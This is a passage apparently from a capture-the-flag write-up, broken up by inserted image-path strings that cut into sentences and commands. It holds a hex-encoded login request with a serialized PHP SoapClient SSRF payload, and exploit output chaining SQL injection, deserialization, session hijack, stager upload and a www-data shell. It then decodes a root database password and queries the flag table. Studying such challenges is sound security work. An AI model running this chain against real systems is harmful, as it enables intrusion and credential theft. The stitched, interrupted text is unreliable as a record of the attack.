2d666f726d2d75726c656e636f6465640d0a436f6e74656e742d4c656e6774683a2034320d0a0d0a757365726e616d653d61646d696e2670617373776f72643d6e75316c61646d696e26636f64653d4928290d0a0d0a504f5354202f666f6f0d0a223b733a383a226c6f636174696f6e223b733a33393a22687474703a2f2f3132372e302e302e312f696e6465782e7068703f616374696f6e3d6c6f67696e223b733a31353a225f73747265616d5f636f6e74657874223b693a303b733a31333a225f736f61705f76657273696f6e223b693a313b7d); -- -
[+] injecting payload through sqli
[+] triggering object deserialization -> ssrf
[+] admin session => ls62913aenuq4vvqcoftkb03o4
[+] uploading stager
[+] bruteforcing uploaded file...
[+] stager =>
[+] shell =>

$ id
uid=33(www-data) gid=33(www-data) groups=33(www-data)

And up to that point we realized that the challenge author wants to ruin our lives! The flag was not stored anywhere in the filesystem. Doing some more enumeration we recall that we have2 sets of credentials for the database, including root.

$ printf 'TnUxTGN0ZiUjfjpw' | base64 -d > dbpass.txt
$ mysql -uroot -p$(cat dbpass.txt)-e "use flag; select flag from flag"


Youcan’t perform thataction at this time.